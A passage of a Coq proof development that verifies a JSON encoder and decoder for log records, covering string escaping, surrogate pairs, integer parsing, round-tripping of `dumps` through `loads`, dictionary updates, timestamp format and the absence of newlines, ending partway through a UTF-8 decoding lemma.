  assert (H3 : (v / 16 / 16 / 16 < 16)%N).
  { apply N.Div0.div_lt_upper_bound. apply N.Div0.div_lt_upper_bound.
    apply N.Div0.div_lt_upper_bound. exact Hv. }
  rewrite (N.mod_small _ _ H3). lia.
Qed.

(** The end of an escape of four hexadecimal digits whose value is [v]. *)
Lemma scan_u_escape v pending acc rest :
  (v < 65536)%N ->
  scanstring Plain pending acc (u_escape v ++ rest) =
  match pending with
  | Some hi =>
      if is_low v
      then scanstring Plain None
             ((65536 + (N.lor (N.shiftl (hi - 55296) 10) (v - 56320)))%N :: acc)
             rest
      else if is_high v
           then scanstring Plain (Some v) (hi :: acc) rest
           else scanstring Plain None (v :: hi :: acc) rest
  | None =>
      if is_high v
      then scanstring Plain (Some v) acc rest
      else scanstring Plain None (v :: acc) rest
  end.
Proof.
  intros Hv. unfold u_escape, hex4.
  cbn [append scanstring Ascii.eqb Bool.eqb backslash dquote andb].
  rewrite !hex_val_hex_digit by nibble v.
  now rewrite (nibbles_sum v Hv).
Qed.

Lemma lor_high_low a b : (b < 1024)%N -> N.lor (a * 1024) b = (a * 1024 + b)%N.
Proof.
  intros Hb.
  assert (H0 : N.land (a * 1024) b = 0%N).
  { apply N.bits_inj_0. intros n. rewrite N.land_spec.
    destruct (N.lt_ge_cases n 10) as [Hn|Hn].
    - change 1024%N with (2 ^ 10)%N. now rewrite N.mul_pow2_bits_low.
    - rewrite <- (N.mod_small b (2 ^ 10)) by exact Hb.
      rewrite (N.mod_pow2_bits_high b 10 n Hn). apply andb_false_r. }
  now rewrite N.add_nocarry_lxor, N.lxor_lor.
Qed.

Lemma surrogate_pair n :
  (n < 1048576)%N ->
  let hi := N.lor 55296 (N.land (N.shiftr n 10) 1023) in
  let lo := N.lor 56320 (N.land n 1023) in
  is_high hi = true /\ is_low lo = true /\
  (65536 + N.lor (N.shiftl (hi - 55296) 10) (lo - 56320) = 65536 + n)%N.
Proof.
  intros Hn hi lo. subst hi lo.
  change 1023%N with (N.ones 10). rewrite !N.land_ones, N.shiftr_div_pow2.
  change (2 ^ 10)%N with 1024%N.
  pose proof (N.mod_lt n 1024 ltac:(discriminate)) as Hlo.
  assert (Hhi : (n / 1024 < 1024)%N)
    by (apply N.Div0.div_lt_upper_bound; exact Hn).
  rewrite (N.mod_small _ _ Hhi).
  change 55296%N with (54 * 1024)%N. change 56320%N with (55 * 1024)%N.
  rewrite !lor_high_low by assumption.
  rewrite (N.add_comm (54 * 1024)), (N.add_comm (55 * 1024)), !N.add_sub.
  rewrite N.shiftl_mul_pow2. change (2 ^ 10)%N with 1024%N.
  rewrite lor_high_low by assumption.
  unfold is_high, is_low, in_range.
  pose proof (N.div_mod n 1024 ltac:(discriminate)) as Hdm.
  revert Hlo Hhi Hdm. generalize (n / 1024)%N (n mod 1024)%N. intros q r Hlo Hhi Hdm.
  repeat split.
  - apply andb_true_intro. split; apply N.leb_le; lia.
  - apply andb_true_intro. split; apply N.leb_le; lia.
  - lia.
Qed.

Lemma ascii_of_N_eqb c a :
  (c < 256)%N -> Ascii.eqb (ascii_of_N c) a = (c =? N_of_ascii a)%N.
Proof.
  intros Hc. destruct (N.eqb_spec c (N_of_ascii a)) as [He|Hne].
  - rewrite He, ascii_N_embedding. apply Ascii.eqb_refl.
  - apply Ascii.eqb_neq. intros <-. now rewrite N_ascii_roundtrip in Hne.
Qed.

Lemma scalar_not_surrogate c :
  scalar c = true -> is_high c = false /\ is_low c = false /\ (c < 1114112)%N.
Proof.
  unfold scalar, is_high, is_low, in_range. intros H.
  apply orb_prop in H as [H|H].
  - apply N.ltb_lt in H. repeat split; try lia;
      apply andb_false_iff; left; apply N.leb_gt; lia.
  - apply andb_prop in H as [H1 H2]. apply N.ltb_lt in H1, H2.
    repeat split; try lia; apply andb_false_iff; right; apply N.leb_gt; lia.
Qed.

(** One character of a string, written by the encoder and read back. *)
Lemma scan_escape_cp c acc rest :
  scalar c = true ->
  scanstring Plain None acc (escape_cp c ++ rest)
  = scanstring Plain None (c :: acc) rest.
Proof.
  intros Hc. destruct (scalar_not_surrogate c Hc) as (Hh & Hl & Hmax).
  unfold escape_cp.
  destruct (N.eqb_spec c 34) as [->|H34]; [reflexivity|].
  destruct (N.eqb_spec c 92) as [->|H92]; [reflexivity|].
  destruct ((32 <=? c) && (c <=? 126))%N eqn:Hp.
  { apply andb_prop in Hp as [H1 H2]. apply N.leb_le in H1, H2.
    cbn [append scanstring].
    rewrite !ascii_of_N_eqb, N_ascii_roundtrip by lia.
    change (N_of_ascii dquote) with 34%N.
    change (N_of_ascii backslash) with 92%N.
    destruct (N.eqb_spec c 34); [contradiction|].
    destruct (N.eqb_spec c 92); [contradiction|].
    destruct (N.ltb_spec c 32); [lia | reflexivity]. }
  destruct (N.eqb_spec c 10) as [->|H10]; [reflexivity|].
  destruct (N.eqb_spec c 13) as [->|H13]; [reflexivity|].
  destruct (N.eqb_spec c 9) as [->|H9]; [reflexivity|].
  destruct (N.eqb_spec c 12) as [->|H12]; [reflexivity|].
  destruct (N.eqb_spec c 8) as [->|H8]; [reflexivity|].
  destruct (N.ltb_spec c 65536) as [Hlt|Hge].
  - rewrite scan_u_escape by exact Hlt. now rewrite Hh.
  - destruct (surrogate_pair (c - 65536)) as (Hhi & Hlo & Hsum); [lia|].
    cbv zeta in Hhi, Hlo, Hsum.
    rewrite append_assoc.
    rewrite scan_u_escape.
    + rewrite Hhi. rewrite scan_u_escape.
      * rewrite Hlo, Hsum. f_equal. f_equal. lia.
      * unfold is_low, in_range in Hlo. apply andb_prop in Hlo as [_ Hlo].
        apply N.leb_le in Hlo. lia.
    + unfold is_high, in_range in Hhi. apply andb_prop in Hhi as [_ Hhi].
      apply N.leb_le in Hhi. lia.
Qed.

(** A whole string. *)
Lemma scan_escape_body s : forall acc rest,
  wf_ustr s = true ->
  scanstring Plain None acc (escape_body s ++ String dquote rest)
  = Some ((List.rev acc ++ s)%list, rest).
Proof.
  induction s as [|c s IH]; intros acc rest Hs.
  - simpl. now rewrite app_nil_r.
  - simpl in Hs. apply andb_prop in Hs as [Hc Hs].
    cbn [escape_body]. rewrite append_assoc, scan_escape_cp by exact Hc.
    rewrite IH by exact Hs. simpl. now rewrite <- app_assoc.
Qed.

(** Integers. *)

Lemma delimited_no_digit rest :
  delimited rest = true -> no_digit_ahead rest /\ starts_float rest = false.
Proof.
  destruct rest as [|c rest]; [now split|]. simpl. intros H.
  destruct (Ascii.eqb_spec c ",") as [->|_]; [now split|].
  destruct (Ascii.eqb_spec c "}") as [->|_]; [now split|].
  destruct (Ascii.eqb_spec c "010") as [->|_]; [now split|].
  discriminate H.
Qed.

Lemma read_digits_uint d : forall rest,
  no_digit_ahead rest ->
  read_digits (NilEmpty.string_of_uint d ++ rest) = (d, rest).
Proof.
  induction d; intros rest Hr; simpl;
    try (rewrite (IHd rest Hr); reflexivity).
  destruct rest as [|c rest]; [reflexivity|]. simpl in *. now rewrite Hr.
Qed.

Lemma unorm_head_zero d : forall l, unorm d = D0 l -> l = Nil.
Proof.
  induction d; intros l H; simpl in H; try discriminate H; auto.
  now injection H as <-.
Qed.

Lemma to_uint_head p l : Pos.to_uint p <> D0 l.
Proof.
  intros H.
  assert (Hn : unorm (Pos.to_uint p) = Pos.to_uint p).
  { rewrite <- (DecimalPos.Unsigned.to_of (Pos.to_uint p)).
    now rewrite DecimalPos.Unsigned.of_to. }
  rewrite H in Hn. apply unorm_head_zero in Hn. subst l.
  exact (DecimalPos.Unsigned.to_uint_nonzero p H).
Qed.

Lemma read_nat_pos p rest :
  no_digit_ahead rest ->
  read_nat (NilZero.string_of_uint (Pos.to_uint p) ++ rest) = Some (N.pos p, rest).
Proof.
  intros Hr. pose proof (DecimalPos.Unsigned.of_to p) as Hof.
  pose proof (to_uint_head p) as Hh.
  pose proof (DecimalPos.Unsigned.to_uint_nonnil p) as Hnil.
  destruct (Pos.to_uint p) as [|l|l|l|l|l|l|l|l|l|l];
    [contradiction | exfalso; exact (Hh l eq_refl) | ..];
    unfold read_nat; cbn -[N.of_uint];
    rewrite (read_digits_uint l rest Hr); now rewrite <- Hof.
Qed.

Lemma read_number_str_int z rest :
  delimited rest = true ->
  read_number (str_int z ++ rest) = Some (JInt z, rest).
Proof.
  intros Hd. destruct (delimited_no_digit rest Hd) as [Hr Hf].
  unfold str_int. destruct z as [|p|p]; simpl Z.to_int.
  - cbn. now rewrite Hf.
  - unfold read_number.
    assert (H1 : forall t, NilZero.string_of_int (Pos (Pos.to_uint p)) ++ rest
                           <> String "-" t).
    { pose proof (to_uint_head p) as Hh.
      pose proof (DecimalPos.Unsigned.to_uint_nonnil p) as Hnil.
      simpl. destruct (Pos.to_uint p); try contradiction; discriminate. }
    pose proof (read_nat_pos p rest Hr) as Hn.
    change (NilZero.string_of_int (Pos (Pos.to_uint p)))
      with (NilZero.string_of_uint (Pos.to_uint p)) in *.
    destruct (NilZero.string_of_uint (Pos.to_uint p) ++ rest) as [|c t] eqn:Hs.
    + discriminate Hn.
    + destruct (Ascii.eqb_spec c "-") as [->|Hc].
      * exfalso. exact (H1 t eq_refl).
      * assert (Hopt : option_map (fun nr : N * string => (Z.of_N (fst nr), snd nr))
                         (read_nat (String c t)) = Some (Z.pos p, rest))
          by now rewrite Hn.
        destruct c as [[] [] [] [] [] [] [] []];
          try (exfalso; apply Hc; reflexivity); rewrite Hopt, Hf; reflexivity.
  - unfold read_number. simpl NilZero.string_of_int. cbn [append].
    rewrite (read_nat_pos p rest Hr). simpl. now rewrite Hf.
Qed.

(** Values and members. *)

Lemma ustr_eqb_spec a : forall b, reflect (a = b) (ustr_eqb a b).
Proof.
  induction a as [|x a IH]; intros [|y b]; simpl; try (constructor; congruence).
  destruct (N.eqb_spec x y) as [->|Hne]; simpl.
  - destruct (IH b) as [->|Hne]; constructor; congruence.
  - constructor. congruence.
Qed.

Lemma ustr_eqb_sym a b : ustr_eqb a b = ustr_eqb b a.
Proof.
  destruct (ustr_eqb_spec a b) as [E|Hne];
    destruct (ustr_eqb_spec b a) as [E'|Hne']; congruence.
Qed.

Lemma dict_set_fresh {V} (d : list (ustr * V)) k v :
  existsb (ustr_eqb k) (map fst d) = false ->
  dict_set ustr_eqb d k v = (d ++ [(k, v)])%list.
Proof.
  induction d as [|[k' v'] d IH]; [reflexivity|].
  simpl. rewrite (ustr_eqb_sym k k'). intros H.
  apply orb_false_elim in H as [-> H]. now rewrite IH.
Qed.

Lemma unique_keys_app_cons l1 k l2 :
  unique_keys (l1 ++ k :: l2) = true ->
  existsb (ustr_eqb k) l1 = false /\ unique_keys ((l1 ++ [k]) ++ l2) = true.
Proof.
  rewrite <- app_assoc. simpl. intros H. split; [|exact H].
  induction l1 as [|x l1 IH]; [reflexivity|].
  simpl in H. apply andb_prop in H as [Hx H].
  rewrite existsb_app in Hx. simpl in Hx.
  apply negb_true_iff in Hx. apply orb_false_elim in Hx as [_ Hx].
  apply orb_false_elim in Hx as [Hx _].
  simpl. rewrite (ustr_eqb_sym k x), Hx. now apply IH.
Qed.

Lemma wf_obj kvs :
  wf_json (JObj kvs) = (unique_keys (map fst kvs) && wf_members kvs)%bool.
Proof.
  simpl. f_equal. induction kvs as [|[k x] kvs IH]; [reflexivity|].
  simpl. now rewrite IH.
Qed.

Lemma jsize_obj kvs : jsize (JObj kvs) = S (msize kvs).
Proof.
  simpl. f_equal. induction kvs as [|[k x] kvs IH]; [reflexivity|].
  simpl. now rewrite IH.
Qed.

Lemma dumps_obj kvs :
  dumps (JObj kvs) = "{" ++ dumps_items true kvs ++ "}".
Proof.
  reflexivity.
Qed.

Lemma dumps_items_more kv kvs :
  dumps_items false (kv :: kvs) = ", " ++ dumps_items true (kv :: kvs).
Proof. destruct kv. reflexivity. Qed.

Lemma skip_ws_head c s :
  is_json_space c = false -> skip_ws (String c s) = String c s.
Proof. simpl. now intros ->. Qed.

Lemma str_int_head z :
  exists c t, str_int z = String c t /\
    is_json_space c = false /\ Ascii.eqb c dquote = false /\
    Ascii.eqb c "{" = false /\ Ascii.eqb c "n" = false.
Proof.
  unfold str_int.
  assert (H : forall p, exists c t,
             NilZero.string_of_uint (Pos.to_uint p) = String c t /\
             is_json_space c = false /\ Ascii.eqb c dquote = false /\
             Ascii.eqb c "{" = false /\ Ascii.eqb c "n" = false).
  { intros p. pose proof (DecimalPos.Unsigned.to_uint_nonnil p) as Hnil.
    destruct (Pos.to_uint p); [contradiction|..]; simpl;
      eexists; eexists; (split; [reflexivity|]); repeat split; reflexivity. }
  destruct z as [|p|p]; simpl.
  - exists "0"%char, EmptyString. repeat split; reflexivity.
  - apply H.
  - exists "-"%char, (NilZero.string_of_uint (Pos.to_uint p)).
    repeat split; reflexivity.
Qed.

(** The first character of a written value is no white space. *)
Lemma dumps_head v :
  exists c t, dumps v = String c t /\ is_json_space c = false.
Proof.
  destruct v as [|s|z|kvs].
  - exists "n"%char, "ull". now split.
  - eexists; eexists. split; [reflexivity|reflexivity].
  - destruct (str_int_head z) as (c & t & H & Hs & _). exists c, t. now split.
  - rewrite dumps_obj. eexists; eexists. split; reflexivity.
Qed.

Lemma delimited_items kvs rest :
  delimited (dumps_items false kvs ++ "}" ++ rest) = true.
Proof. destruct kvs as [|[k x] kvs]; reflexivity. Qed.

Lemma skip_ws_items kv kvs tail :
  skip_ws (dumps_items true (kv :: kvs) ++ tail)
  = dumps_items true (kv :: kvs) ++ tail.
Proof. destruct kv. reflexivity. Qed.

(** One member, given that its value reads back. *)
Lemma read_members_step f d k x tail :
  wf_ustr k = true ->
  read_value f (dumps x ++ tail) = Some (x, tail) ->
  read_members (S f) d (encode_str k ++ ": " ++ dumps x ++ tail) =
  match skip_ws tail with
  | String "}" rest => Some (dict_set ustr_eqb d k x, rest)
  | String "," s5 => read_members f (dict_set ustr_eqb d k x) (skip_ws s5)
  | _ => None
  end.
Proof.
  intros Hk Hx. unfold encode_str.
  cbn [append read_members]. rewrite Ascii.eqb_refl.
  rewrite append_assoc. cbn [append].
  rewrite (scan_escape_body k [] _ Hk). cbn [List.rev app].
  destruct (dumps_head x) as (c & t & Hd & Hc).
  cbn [skip_ws is_json_space Ascii.eqb Bool.eqb orb andb].
  rewrite Hd in *. cbn [append] in *. rewrite (skip_ws_head c _ Hc).
  now rewrite Hx.
Qed.

Lemma read_back fuel :
  (forall v rest,
      wf_json v = true -> jsize v <= fuel -> delimited rest = true ->
      read_value fuel (dumps v ++ rest) = Some (v, rest)) /\
  (forall kv kvs d rest,
      wf_members (kv :: kvs) = true ->
      unique_keys (map fst d ++ map fst (kv :: kvs)) = true ->
      msize (kv :: kvs) <= fuel ->
      read_members fuel d (dumps_items true (kv :: kvs) ++ "}" ++ rest)
      = Some ((d ++ kv :: kvs)%list, rest)).
Proof.
  induction fuel as [|f [IHv IHm]].
  - split.
    + intros v rest _ Hs. destruct v; simpl in Hs; lia.
    + intros [k x] kvs d rest _ _ Hs. simpl in Hs. lia.
  - split.
    + intros v rest Hwf Hs Hd. destruct v as [|s|z|kvs].
      * reflexivity.
      * cbn [dumps encode_str append read_value]. rewrite Ascii.eqb_refl.
        rewrite append_assoc. cbn [append].
        now rewrite (scan_escape_body s [] rest Hwf).
      * destruct (str_int_head z) as (c & t & Hz & _ & H1 & H2 & H3).
        pose proof (read_number_str_int z rest Hd) as Hn.
        cbn [dumps]. rewrite Hz in *. cbn [append read_value] in *.
        now rewrite H1, H2, H3.
      * rewrite wf_obj in Hwf. apply andb_prop in Hwf as [Hu Hw].
        rewrite jsize_obj in Hs. rewrite dumps_obj.
        cbn [append read_value Ascii.eqb Bool.eqb dquote andb].
        destruct kvs as [|[k x] kvs]; [reflexivity|].
        pose proof (IHm (k, x) kvs [] rest Hw Hu ltac:(lia)) as Hm.
        rewrite append_assoc.
        cbn [dumps_items encode_str append] in Hm |- *.
        cbn [skip_ws is_json_space Ascii.eqb Bool.eqb dquote orb andb].
        unfold dquote in Hm |- *. now rewrite Hm.
    + intros [k x] kvs d rest Hw Hu Hs.
      cbn [wf_members forallb fst snd] in Hw.
      apply andb_prop in Hw as [Hkx Hw]. apply andb_prop in Hkx as [Hk Hx].
      cbn [msize fold_right snd] in Hs. fold (msize kvs) in Hs.
      cbn [map fst] in Hu.
      apply unique_keys_app_cons in Hu as [Hfresh Hu].
      assert (Heq : dumps_items true ((k, x) :: kvs) ++ "}" ++ rest
                    = encode_str k ++ ": " ++ dumps x
                      ++ (dumps_items false kvs ++ "}" ++ rest)).
      { cbn [dumps_items]. cbn [append]. rewrite !append_assoc.
        f_equal. cbn [append]. now rewrite append_assoc. }
      rewrite Heq. clear Heq.
      rewrite (read_members_step f d k x _ Hk).
      * rewrite (dict_set_fresh d k x Hfresh).
        destruct kvs as [|kv kvs].
        -- cbn. reflexivity.
        -- rewrite dumps_items_more.
           cbn [append skip_ws is_json_space Ascii.eqb Bool.eqb orb andb].
           rewrite skip_ws_items.
           change (String "}" rest) with ("}" ++ rest).
           rewrite (IHm kv kvs (d ++ [(k, x)])%list rest Hw).
           ++ now rewrite <- app_assoc.
           ++ rewrite map_app. exact Hu.
           ++ lia.
      * apply IHv; [exact Hx | lia | apply delimited_items].
Qed.

Lemma length_encode_str s : 2 <= String.length (encode_str s).
Proof.
  unfold encode_str. simpl. rewrite length_append. simpl. lia.
Qed.

Lemma jsize_le_length : forall v, jsize v <= String.length (dumps v).
Proof.
  fix IH 1. intros [|s|z|kvs].
  - simpl. lia.
  - pose proof (length_encode_str s). simpl jsize. simpl dumps. lia.
  - destruct (str_int_head z) as (c & t & Hz & _). simpl jsize. simpl dumps.
    rewrite Hz. simpl. lia.
  - rewrite jsize_obj, dumps_obj. simpl String.length.
    rewrite length_append. simpl String.length.
    assert (H : forall b, msize kvs <= String.length (dumps_items b kvs)).
    { induction kvs as [|[k x] kvs IHl]; intros b; [simpl; lia|].
      cbn [msize fold_right snd]. fold (msize kvs). cbn [dumps_items].
      rewrite !length_append. specialize (IHl false). specialize (IH x).
      pose proof (length_encode_str k). simpl String.length. lia. }
    specialize (H true). lia.
Qed.

(** [json.loads] undoes [json.dumps] on a line of the log. *)
Lemma loads_dumps v :
  wf_json v = true -> loads (dumps v ++ newline) = Some v.
Proof.
  intros Hwf. unfold loads.
  destruct (dumps_head v) as (c & t & Hd & Hc).
  assert (Hskip : skip_ws (dumps v ++ newline) = dumps v ++ newline).
  { rewrite Hd. cbn [append]. now apply skip_ws_head. }
  rewrite Hskip.
  destruct (read_back (S (String.length (dumps v ++ newline)))) as [Hv _].
  rewrite (Hv v newline Hwf); [reflexivity| |reflexivity].
  pose proof (jsize_le_length v). rewrite length_append. lia.
Qed.

(** Dictionaries with string keys. *)

Lemma dict_get_set {V} (d : list (ustr * V)) k v k' :
  dict_get ustr_eqb (dict_set ustr_eqb d k v) k' =
  if ustr_eqb k k' then Some v else dict_get ustr_eqb d k'.
Proof.
  induction d as [|[k0 v0] d IH]; simpl.
  - reflexivity.
  - destruct (ustr_eqb_spec k0 k) as [->|Hne]; simpl.
    + now destruct (ustr_eqb k k').
    + rewrite IH. destruct (ustr_eqb_spec k0 k') as [->|Hne'];
        [|reflexivity].
      destruct (ustr_eqb_spec k k'); congruence.
Qed.

Lemma dict_update_cons {V} (d e : list (ustr * V)) k v :
  dict_update ustr_eqb d ((k, v) :: e)
  = dict_update ustr_eqb (dict_set ustr_eqb d k v) e.
Proof. reflexivity. Qed.

Lemma dict_get_update_none {V} (e : list (ustr * V)) : forall d k,
  dict_get ustr_eqb e k = None ->
  dict_get ustr_eqb (dict_update ustr_eqb d e) k = dict_get ustr_eqb d k.
Proof.
  induction e as [|[k0 v0] e IH]; intros d k H; [reflexivity|].
  simpl in H. destruct (ustr_eqb k0 k) eqn:Hk; [discriminate H|].
  rewrite dict_update_cons, IH by exact H.
  now rewrite dict_get_set, Hk.
Qed.

Lemma dict_get_absent {V} (e : list (ustr * V)) k :
  existsb (ustr_eqb k) (map fst e) = false -> dict_get ustr_eqb e k = None.
Proof.
  induction e as [|[k0 v0] e IH]; [reflexivity|]. simpl.
  rewrite (ustr_eqb_sym k k0). intros H.
  apply orb_false_elim in H as [-> H]. now apply IH.
Qed.

Lemma dict_get_update_some {V} (e : list (ustr * V)) : forall d k v,
  unique_keys (map fst e) = true ->
  dict_get ustr_eqb e k = Some v ->
  dict_get ustr_eqb (dict_update ustr_eqb d e) k = Some v.
Proof.
  induction e as [|[k0 v0] e IH]; intros d k v Hu H; [discriminate H|].
  simpl in Hu, H. apply andb_prop in Hu as [Hfresh Hu].
  apply negb_true_iff in Hfresh. rewrite dict_update_cons.
  destruct (ustr_eqb_spec k0 k) as [->|Hne].
  - injection H as ->.
    rewrite (dict_get_update_none e _ k (dict_get_absent e k Hfresh)).
    rewrite dict_get_set. now destruct (ustr_eqb_spec k k).
  - now apply IH.
Qed.

Lemma keys_dict_set {V} (d : list (ustr * V)) k v :
  map fst (dict_set ustr_eqb d k v) =
  if existsb (ustr_eqb k) (map fst d) then map fst d
  else (map fst d ++ [k])%list.
Proof.
  induction d as [|[k0 v0] d IH]; [reflexivity|]. simpl.
  rewrite (ustr_eqb_sym k k0).
  destruct (ustr_eqb k0 k); [reflexivity|]. simpl. rewrite IH.
  now destruct (existsb _ _).
Qed.

Lemma unique_keys_snoc l k :
  unique_keys l = true -> existsb (ustr_eqb k) l = false ->
  unique_keys (l ++ [k]) = true.
Proof.
  induction l as [|x l IH]; [reflexivity|]. simpl. intros Hu Hk.
  apply andb_prop in Hu as [Hx Hu]. apply orb_false_elim in Hk as [Hkx Hk].
  rewrite existsb_app. simpl. rewrite (ustr_eqb_sym x k), Hkx.
  apply negb_true_iff in Hx. rewrite Hx. simpl. now apply IH.
Qed.

Lemma unique_keys_dict_update (e : list (ustr * json)) : forall d,
  unique_keys (map fst d) = true ->
  unique_keys (map fst (dict_update ustr_eqb d e)) = true.
Proof.
  induction e as [|[k v] e IH]; intros d Hd; [exact Hd|].
  rewrite dict_update_cons. apply IH. rewrite keys_dict_set.
  destruct (existsb (ustr_eqb k) (map fst d)) eqn:Hk; [exact Hd|].
  now apply unique_keys_snoc.
Qed.

Lemma wf_members_dict_set d k v :
  wf_members d = true -> wf_ustr k = true -> wf_json v = true ->
  wf_members (dict_set ustr_eqb d k v) = true.
Proof.
  intros Hd Hk Hv. induction d as [|[k0 v0] d IH]; simpl.
  - now rewrite Hk, Hv.
  - simpl in Hd. apply andb_prop in Hd as [H0 Hd].
    destruct (ustr_eqb_spec k0 k) as [->|Hne]; simpl.
    + now rewrite Hk, Hv, Hd.
    + now rewrite H0, IH.
Qed.

Lemma wf_members_dict_update e : forall d,
  wf_members d = true -> wf_members e = true ->
  wf_members (dict_update ustr_eqb d e) = true.
Proof.
  induction e as [|[k v] e IH]; intros d Hd He; [exact Hd|].
  simpl in He. apply andb_prop in He as [Hkv He].
  apply andb_prop in Hkv as [Hk Hv].
  rewrite dict_update_cons. apply IH; [|exact He].
  now apply wf_members_dict_set.
Qed.

Lemma wf_latin1 s : wf_ustr (latin1 s) = true.
Proof.
  unfold latin1, wf_ustr. induction s as [|c s IH]; [reflexivity|].
  simpl. rewrite IH, andb_true_r. unfold scalar.
  pose proof (N_ascii_bounded c) as Hb.
  apply orb_true_intro. left. apply N.ltb_lt. lia.
Qed.

Lemma wf_log_record ty now kw :
  wf_ustr ty = true -> wf_members kw = true ->
  wf_json (JObj (log_record ty now kw)) = true.
Proof.
  intros Hty Hkw. rewrite wf_obj. unfold log_record.
  apply andb_true_intro. split.
  - apply unique_keys_dict_update. reflexivity.
  - apply wf_members_dict_update; [|exact Hkw].
    cbn [wf_members forallb fst snd wf_json]. now rewrite Hty, !wf_latin1.
Qed.

(** The timestamp. *)

Lemma eat_digits_last w : forall s,
  eat_digits (S w) s = and_then (eat_digits w s) (eat_digits 1).
Proof.
  induction w as [|w IH]; intros s; [reflexivity|].
  destruct s as [|c s]; [reflexivity|].
  change (eat_digits (S (S w)) (String c s))
    with (if is_digit c then eat_digits (S w) s else None).
  rewrite IH. simpl. now destruct (is_digit c).
Qed.

Lemma is_digit_decimal n :
  (n < 10)%N -> is_digit (ascii_of_N (48 + n)) = true.
Proof.
  intros Hn. unfold is_digit, in_range. rewrite N_ascii_roundtrip by lia.
  apply andb_true_intro. split; apply N.leb_le; lia.
Qed.

Lemma eat_fixed_digits w : forall n rest,
  eat_digits w (fixed_digits w n ++ rest) = Some rest.
Proof.
  induction w as [|w IH]; intros n rest; [reflexivity|].
  rewrite eat_digits_last. cbn [fixed_digits].
  rewrite append_assoc, IH. cbn [and_then eat_digits append].
  now rewrite is_digit_decimal by (apply N.mod_lt; discriminate).
Qed.

Lemma eat_zpad w n rest :
  (n < 10 ^ N.of_nat w)%N -> eat_digits w (zpad w n ++ rest) = Some rest.
Proof.
  intros Hn. unfold zpad. apply N.ltb_lt in Hn. rewrite Hn.
  apply eat_fixed_digits.
Qed.

Lemma isoformat_iso8601 t : valid_datetime t -> iso8601 (isoformat t) = true.
Proof.
  intros (Hy & Hmo & Hd & Hh & Hmi & Hs & Hus).
  unfold iso8601, isoformat.
  rewrite (eat_zpad 4 (year t)) by (simpl; lia).
  cbn [and_then append eat_char]. rewrite Ascii.eqb_refl. cbn [and_then].
  rewrite (eat_zpad 2 (month t)) by (simpl; lia).
  cbn [and_then append eat_char]. rewrite Ascii.eqb_refl. cbn [and_then].
  rewrite (eat_zpad 2 (day t)) by (simpl; lia).
  cbn [and_then append eat_char]. rewrite Ascii.eqb_refl. cbn [and_then].
  rewrite (eat_zpad 2 (hour t)) by (simpl; lia).
  cbn [and_then append eat_char]. rewrite Ascii.eqb_refl. cbn [and_then].
  rewrite (eat_zpad 2 (minute t)) by (simpl; lia).
  cbn [and_then append eat_char]. rewrite Ascii.eqb_refl. cbn [and_then].
  rewrite (eat_zpad 2 (second t)) by (simpl; lia).
  destruct (microsecond t =? 0)%N; [reflexivity|].
  cbn [and_then append eat_char]. rewrite Ascii.eqb_refl. cbn [and_then].
  rewrite <- (append_nil_r (zpad 6 (microsecond t))).
  now rewrite (eat_zpad 6 (microsecond t)) by (simpl; lia).
Qed.

(** A record takes one line. *)

Lemma no_nl_app a b : no_nl (a ++ b) = (no_nl a && no_nl b)%bool.
Proof.
  induction a as [|c a IH]; [reflexivity|]. simpl. rewrite IH.
  now rewrite andb_assoc.
Qed.

Lemma hex_digit_no_nl n :
  (n < 16)%N -> Ascii.eqb (hex_digit n) "010" = false.
Proof.
  intros H. rewrite <- (N2Nat.id n).
  assert (Hk : N.to_nat n < 16) by lia.
  revert Hk. generalize (N.to_nat n). intros k Hk.
  do 16 (destruct k as [|k]; [reflexivity|]). lia.
Qed.

Lemma no_nl_u_escape v : no_nl (u_escape v) = true.
Proof.
  unfold u_escape, hex4. cbn [no_nl].
  rewrite !hex_digit_no_nl by nibble v.
  reflexivity.
Qed.

Lemma no_nl_escape_cp c : no_nl (escape_cp c) = true.
Proof.
  unfold escape_cp.
  repeat match goal with
         | |- context [if ?b then _ else _] => destruct b eqn:?
         end;
    try reflexivity; try apply no_nl_u_escape.
  - apply andb_prop in Heqb1 as [H1 H2]. apply N.leb_le in H1, H2.
    simpl. rewrite ascii_of_N_eqb by lia.
    change (N_of_ascii "010") with 10%N.
    destruct (N.eqb_spec c 10); [lia | reflexivity].
  - now rewrite no_nl_app, !no_nl_u_escape.
Qed.

Lemma no_nl_encode_str s : no_nl (encode_str s) = true.
Proof.
  unfold encode_str. cbn [no_nl]. rewrite no_nl_app.
  induction s as [|c s IH]; [reflexivity|].
  cbn [escape_body]. rewrite no_nl_app, no_nl_escape_cp. exact IH.
Qed.

Lemma no_nl_str_int z : no_nl (str_int z) = true.
Proof.
  assert (H : forall d, no_nl (NilEmpty.string_of_uint d) = true)
    by (induction d; simpl; auto).
  assert (H' : forall d, no_nl (NilZero.string_of_uint d) = true)
    by (intros d; destruct d; try reflexivity; apply H).
  unfold str_int. destruct z; simpl; auto.
Qed.

Lemma no_nl_dumps : forall v, no_nl (dumps v) = true.
Proof.
  fix IH 1. intros [|s|z|kvs].
  - reflexivity.
  - apply no_nl_encode_str.
  - apply no_nl_str_int.
  - rewrite dumps_obj. cbn [append no_nl]. rewrite no_nl_app.
    assert (H : forall b, no_nl (dumps_items b kvs) = true).
    { induction kvs as [|[k x] kvs IHl]; intros b; [reflexivity|].
      cbn [dumps_items]. rewrite !no_nl_app, no_nl_encode_str, (IH x), IHl.
      now destruct b. }
    now rewrite H.
Qed.

(** ** The records of a request are well formed *)

Lemma scalar_below c : (c < 55296)%N -> scalar c = true.
Proof.
  intros H. unfold scalar. apply orb_true_intro. left. now apply N.ltb_lt.
Qed.

Lemma scalar_above c : (57343 < c < 1114112)%N -> scalar c = true.
Proof.
  intros [H1 H2]. unfold scalar. apply orb_true_intro. right.
  apply andb_true_intro. split; now apply N.ltb_lt.
Qed.

Lemma in_range_spec lo hi b :
  in_range lo hi b = true -> (lo <= b <= hi)%N.
Proof.
  unfold in_range. intros H. apply andb_prop in H as [H1 H2].
  apply N.leb_le in H1, H2. now split.
Qed.

(** A decoded body holds scalar values only. *)
Lemma utf8_decode_from_wf n : forall bs pos s,
  List.length bs <= n -> utf8_decode_from pos bs = Ok s -> wf_ustr s = true.
Proof.
  induction n as [|n IH]; intros bs pos s Hlen H.
  - destruct bs; [|simpl in Hlen; lia]. now injection H as <-.
  - destruct bs as [|b0 r0]; [now injection H as <-|].
    simpl in Hlen. cbn [utf8_decode_from] in H.
    destruct (N.ltb_spec b0 128) as [H0|H0].
    { destruct (utf8_decode_from (S pos) r0) as [s'|] eqn:Hr; [|discriminate H].
      injection H as <-. simpl. rewrite (scalar_below b0) by lia.
      apply (IH r0 (S pos) s'); [lia | exact Hr]. }
